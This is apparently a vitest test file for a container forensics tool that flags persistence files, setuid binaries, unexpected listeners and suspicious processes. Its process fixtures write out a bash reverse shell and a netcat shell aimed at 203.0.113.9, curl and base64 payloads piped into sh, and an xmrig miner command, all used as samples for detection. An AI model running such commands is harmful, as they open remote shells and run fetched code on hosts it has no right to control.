import {describe, expect, it} from 'vitest'

import {deriveFindings, type FindingsInput} from '../../src/services/evidence/findings.js'
import type {LiveProcess} from '../../src/services/evidence/live/capture.js'

const proc = (nspid: number, cmdline: string[], exe = '/bin/busybox', deleted = false): LiveProcess => ({
  pid: 1000 + nspid,
  nspid,
  ppid: 1,
  name: (exe.split('/').pop() ?? '').slice(0, 15),
  state: 'S (sleeping)',
  cmdline,
  environ: [],
  exe: {path: exe, deleted},
  uid: [0],
  gid: [0],
  fds: [],
  maps: [],
  errors: [],
})

const base = (over: Partial<FindingsInput>): FindingsInput => ({container: 'web', declaredPorts: ['80/tcp'], ...over})

describe('findings from the evidence', () => {
  it('names persistence, setuid files and dropped executables from the diff and the index', () => {
    const f = deriveFindings(
      base({
        diff: {
          artifact: 'evidence/web/diff.json',
          changes: [
            {path: '/etc/cron.d/update', kind: 'added'},
            {path: '/root/.ssh/authorized_keys', kind: 'changed'},
            {path: '/etc/ld.so.preload', kind: 'added'},
            {path: '/usr/local/bin/helper', kind: 'added'},
            {path: '/dev/shm/x', kind: 'added'},
            {path: '/var/log/app.log', kind: 'changed'},
            {path: '/tmp/gone.sh', kind: 'deleted'},
          ],
        },
        index: {
          artifact: 'evidence/web/export-index.jsonl',
          entries: [
            {path: 'usr/local/bin/helper', type: 'file', mode: '4755', sha256: 'a'.repeat(64)},
            {path: 'dev/shm/x', type: 'file', mode: '0755', sha256: 'b'.repeat(64)},
          ],
        },
      }),
    )
    const ids = f.map((x) => `${x.id} ${x.path}`)
    expect(ids).toContain('persistence /etc/cron.d/update')
    expect(ids).toContain('persistence /root/.ssh/authorized_keys')
    expect(ids).toContain('persistence /etc/ld.so.preload')
    expect(ids).toContain('setuid-added /usr/local/bin/helper')
    expect(ids).toContain('dropped-executable /dev/shm/x')
    expect(f.find((x) => x.path === '/dev/shm/x')?.iocs?.[0]).toEqual({
      type: 'file',
      value: '/dev/shm/x',
      sha256: 'b'.repeat(64),
    })
    // An ordinary changed log and a deleted file say nothing.
    expect(ids.some((x) => x.includes('/var/log/app.log') || x.includes('/tmp/gone.sh'))).toBe(false)
  })

  it('knows the miner, reverse-shell and download-and-run shapes, and ordinary processes raise nothing', () => {
    const processes = [
      proc(1, ['nginx', '-g', 'daemon off;'], '/usr/sbin/nginx'),
      proc(2, ['./xmrig', '-o', 'stratum+tcp://pool.example:3333'], '/opt/xmrig'),
      proc(3, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], '/bin/bash'),
      proc(4, ['sh', '-c', 'curl -fsSL http://203.0.113.9/x | sh'], '/bin/sh'),
      proc(5, ['sh', '-c', 'echo aGk= | base64 -d | sh'], '/bin/sh'),
      proc(6, ['nc', '-e', '/bin/sh', '203.0.113.9', '9001'], '/bin/busybox'),
      proc(7, ['/dev/shm/.k'], '/dev/shm/.k'),
    ]
    const f = deriveFindings(
      base({live: {processesArtifact: 'p.json', socketsArtifact: 's.json', processes, sockets: []}}),
    )
    const byPid = (pid: number) => f.filter((x) => x.pid === pid).map((x) => x.message)
    expect(byPid(1)).toEqual([])
    expect(byPid(2).join()).toMatch(/cryptocurrency miner/)
    expect(byPid(3).join()).toMatch(/reverse shell/)
    expect(byPid(4).join()).toMatch(/download piped into a shell/)
    expect(byPid(5).join()).toMatch(/base64 payload/)
    expect(byPid(6).join()).toMatch(/netcat/)
    expect(byPid(7).join()).toMatch(/runs from a writable path: \/dev\/shm\/\.k/)
    expect(f[0]!.severity).toBe('critical')
  })

  it('a declared or published listener is the service; an undeclared one and a connection out are findings', () => {
    const holder = [{pid: 1001, nspid: 1, name: 'nginx', fd: 6}]
    const f = deriveFindings(
      base({
        live: {
          processesArtifact: 'p.json',
          socketsArtifact: 's.json',
          processes: [],
          sockets: [
            {
              proto: 'tcp',
              state: 'LISTEN',
              local: {address: '0.0.0.0', port: 80},
              remote: {address: '0.0.0.0', port: 0},
              inode: 1,
              processes: holder,
            },
            {
              proto: 'tcp6',
              state: 'LISTEN',
              local: {address: '::', port: 4444},
              remote: {address: '::', port: 0},
              inode: 2,
              processes: holder,
            },
            {
              proto: 'tcp',
              state: 'ESTABLISHED',
              local: {address: '172.17.0.2', port: 80},
              remote: {address: '172.17.0.9', port: 51000},
              inode: 3,
              processes: holder,
            },
            {
              proto: 'tcp',
              state: 'ESTABLISHED',
              local: {address: '172.17.0.2', port: 40000},
              remote: {address: '203.0.113.9', port: 443},
              inode: 4,
              processes: holder,
            },
            {
              proto: 'tcp',
              state: 'LISTEN',
              local: {address: '127.0.0.11', port: 35000},
              remote: {address: '0.0.0.0', port: 0},
              inode: 5,
              processes: [],
            },
          ],
        },
      }),
    )
    expect(f.map((x) => `${x.id} ${x.path}`).sort()).toEqual([
      'remote-connection 203.0.113.9:443',
      'unexpected-listener tcp/4444',
    ])
  })
})
